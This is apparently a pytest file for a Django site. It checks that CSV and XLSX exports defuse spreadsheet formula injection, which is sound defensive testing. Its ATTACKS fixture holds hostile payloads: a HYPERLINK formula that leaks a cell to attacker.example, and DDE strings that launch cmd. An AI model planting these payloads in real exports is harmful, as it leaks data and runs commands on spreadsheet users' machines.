"""No formula survives into a download: every CSV and XLSX cell is neutralised.

Text that a spreadsheet would run (=, +, -, @, tab, carriage return at the start) is put
where each download shows it: a director's owner, a finding, a recommendation, a PDU's
name; then every cell of every download is read back.
"""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from inspections.models import Finding
from inspections.web.exports import FORMULA_STARTS, neutralise
from pdus.models import Body
from recommendations.models import Recommendation, Tracking

ATTACKS = {
    "owner": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "finding": "+cmd|' /C calc'!A0 staff were positive about their managers",
    "recommendation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pdu": "-2+3 Lambeth",
    "note": "\t=1+1",
}

DOWNLOADS = [
    "/pdus/?format=csv",
    "/compare/?pdu=lambeth&pdu=newham&standard=2.2&format=csv",
    "/compare/?pdu=lambeth&pdu=newham&standard=2.2&format=xlsx",
    "/tracker/?format=csv",
    "/tracker/?format=xlsx",
    "/explore/?q=staff&format=csv",
    "/explore/?q=staff&format=xlsx",
    "/explore/?type=recommendation&format=csv",
    "/explore/?type=recommendation&format=xlsx",
    "/explore/recurring/?format=csv",
    "/explore/recurring/?format=xlsx",
]


def test_neutralise_follows_owasp():
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("Lambeth") == "Lambeth"
    assert neutralise(-2) == -2  # numbers stay numbers
    assert neutralise(None) is None


@pytest.fixture
def hostile_data(published_data):
    lambeth = Body.objects.get(slug="lambeth")
    lambeth.short_name = ATTACKS["pdu"]
    lambeth.name = f"{ATTACKS['pdu']} PDU"
    lambeth.save()
    finding = Finding.objects.filter(inspection__body=lambeth, text__icontains="staff").first()
    finding.text = ATTACKS["finding"]
    finding.save()
    recommendation = Recommendation.objects.filter(inspection__body=lambeth).first()
    recommendation.text = ATTACKS["recommendation"]
    recommendation.save()
    Tracking.objects.create(recommendation=recommendation, owner=ATTACKS["owner"])
    call_command("tag_themes", verbosity=0)


def cells(response) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.getvalue().decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    found.append(cell.value)
    return found


@pytest.mark.parametrize("url", DOWNLOADS)
def test_no_cell_of_a_download_starts_a_formula(client, hostile_data, url):
    response = client.get(url)
    assert response.status_code == 200
    texts = cells(response)
    assert texts, "the download is empty"
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]


def test_the_hostile_text_is_in_the_downloads_neutralised(client, hostile_data):
    # The checks above would pass if the text were dropped: it must be there, defused.
    shown = {
        "/tracker/?format=csv": ["owner", "recommendation", "pdu"],
        "/tracker/?format=xlsx": ["owner", "recommendation"],
        "/pdus/?format=csv": ["pdu"],
        "/explore/?type=recommendation&format=xlsx": ["recommendation"],
        "/explore/?q=staff&format=csv": ["finding"],
    }
    for url, attacks in shown.items():
        texts = cells(client.get(url))
        for attack in attacks:
            assert any(text.startswith("'" + ATTACKS[attack]) for text in texts), (url, attack)
